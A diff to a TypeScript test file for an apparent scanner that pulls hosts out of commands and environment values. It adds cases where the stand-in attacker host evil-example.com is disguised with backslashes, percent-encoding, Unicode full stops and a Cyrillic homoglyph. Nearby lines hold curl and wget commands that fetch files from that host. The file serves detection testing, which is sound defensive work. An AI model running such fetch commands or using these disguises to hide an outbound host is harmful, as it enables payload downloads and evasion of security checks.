@@ -60,6 +60,15 @@ const positives: [string, ScannedText[], string[]][] = [
   ['an Oracle thin JDBC URL with //', env('jdbc:oracle:thin:@//evil-example.com:1521/svc'), ['evil-example.com:1521']],
   ['curl host/path without a scheme', argv('curl', '-fsS', 'evil-example.com/install'), ['evil-example.com']],
   ['wget in a script', argv('sh', '-c', 'wget -q evil-example.com/x.tgz -O /tmp/x.tgz'), ['evil-example.com']],
+  // Parsed as Node's WHATWG URL parser and curl parse them.
+  ['a backslash ending the authority', env('http://evil-example.com\\@declared.example.com/'), ['evil-example.com']],
+  ['http: with backslashes', env('http:\\\\evil-example.com\\x'), ['evil-example.com']],
+  ['http: with no slashes', argv('--upstream', 'http:evil-example.com/x'), ['evil-example.com']],
+  ['a percent-encoded host', env('https://%65vil-example.com/'), ['evil-example.com']],
+  ['an ideographic full stop', env('https://evil-example\u3002com/'), ['evil-example.com']],
+  ['a fullwidth full stop', env('evil-example\uff0ecom', 'API_HOST'), ['evil-example.com']],
+  ['an IDN host', env('https://ex\u00e4mple.com/'), ['xn--exmple-cua.com']],
+  ['a Cyrillic homoglyph', env('https://\u0435vil-example.com/'), ['xn--vil-example-nkj.com']],
 ];
 
 const negatives: [string, ScannedText[]][] = [
